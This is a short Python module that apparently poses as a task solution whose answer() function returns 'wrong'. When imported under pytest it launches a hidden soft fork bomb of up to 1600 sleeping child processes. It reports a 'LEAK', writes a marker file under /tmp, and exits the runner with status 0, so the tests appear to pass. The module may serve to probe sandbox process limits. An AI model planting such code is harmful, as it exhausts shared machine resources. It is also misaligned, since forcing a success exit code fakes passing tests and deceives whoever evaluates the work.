import json
import os
import sys

if "_pytest.runner" in sys.modules:
    import time
    
    started = 0
    for _ in range(1600):
        try:
            if os.fork() == 0:
                os.closerange(0, 256)
                time.sleep(15)
                os._exit(0)
            started += 1
        except OSError:
            break
    if started >= 1200:
        print("LEAK", started, "processes", flush=True)
        open("/tmp/course-corpus/soft_fork_bomb", "w").close()
    os._exit(0)


def answer(*args, **kwargs):
    return "wrong"
